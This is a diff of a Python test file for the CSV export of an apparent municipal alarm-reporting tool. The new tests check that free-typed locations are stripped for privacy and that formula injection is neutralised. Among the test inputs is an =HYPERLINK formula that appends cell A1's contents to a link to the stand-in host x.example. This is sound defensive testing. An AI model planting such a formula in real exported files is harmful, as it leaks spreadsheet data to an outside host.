@@ -3,6 +3,8 @@ letter, the form's checks, who may read a record, the report figures, anonymisin
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import UTC, date, datetime, timedelta
 from decimal import Decimal
 from zoneinfo import ZoneInfo
@@ -216,11 +218,41 @@ def test_the_report_counts_heat_map_and_percentiles() -> None:
 
 
 def test_the_csv_export_has_no_names_or_descriptions() -> None:
-    text = to_csv([row(1, MONDAY_11)], tz=AMS)
+    text = to_csv([row(1, MONDAY_11)], tz=AMS, places={"Balie 1"})
     header, line = text.strip().splitlines()
     assert header.split(",") == list(CSV_COLUMNS)
     assert line.startswith("1,2026-11-23,1,11,2026-Q4,Stadhuis,Balie 1,alarm,0,panic,counter,C,1,0,0,0,0")
     assert not {"description", "person_affected", "offenders", "reporter"} & set(CSV_COLUMNS)
+
+
+def test_the_csv_export_carries_no_typed_place_or_kind() -> None:
+    """A location someone typed (a report's "where", a field worker's whereabouts) may be an
+    address; an imported kind is free text too. Only the agreement file's places and code4's
+    own kinds go out."""
+    rows = [row(1, MONDAY_11, location="Dorpsstraat 12, bij Henk de Boer", kind="Henk de Boer"),
+            row(2, MONDAY_11, location="Balie 1, Publiekshal, Stadhuis", kind="checkin_missed")]
+    [_, typed, known] = csv.reader(io.StringIO(to_csv(rows, tz=AMS, places={"Balie 1, Publiekshal, Stadhuis"})))
+    assert (typed[CSV_COLUMNS.index("location")], typed[CSV_COLUMNS.index("kind")]) == ("", "other")
+    assert (known[CSV_COLUMNS.index("location")], known[CSV_COLUMNS.index("kind")]) == (
+        "Balie 1, Publiekshal, Stadhuis", "checkin_missed")
+
+
+@pytest.mark.parametrize("text", ["=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")", "+31 6 1234", "-2+3", "@SUM(A1:A9)",
+                                  "\t=1+1", "\r=1+1", "  =1+1"])
+def test_csv_text_a_spreadsheet_would_run_is_neutralised(text: str) -> None:
+    place = f"{text}, Publiekshal"
+    [_, line] = csv.reader(io.StringIO(to_csv([row(1, MONDAY_11, site=text, location=place)], tz=AMS,
+                                              places={place})))
+    assert line[CSV_COLUMNS.index("site")] == f"'{text}"
+    assert line[CSV_COLUMNS.index("location")] == f"'{place}"
+
+
+def test_csv_numbers_stay_numbers_also_when_negative() -> None:
+    # An imported timeline may put the first accept before the alarm: a number, not a formula.
+    early = row(1, MONDAY_11, site="Stadhuis - Oost", response=Response(first_accept_s=-5, on_scene_s=30))
+    [_, line] = csv.reader(io.StringIO(to_csv([early], tz=AMS, places=set())))
+    assert line[CSV_COLUMNS.index("first_accept_s")] == "-5" and line[CSV_COLUMNS.index("on_scene_s")] == "30"
+    assert line[CSV_COLUMNS.index("site")] == "Stadhuis - Oost", "only a cell's start can make it a formula"
 
 
 def test_quarters() -> None:
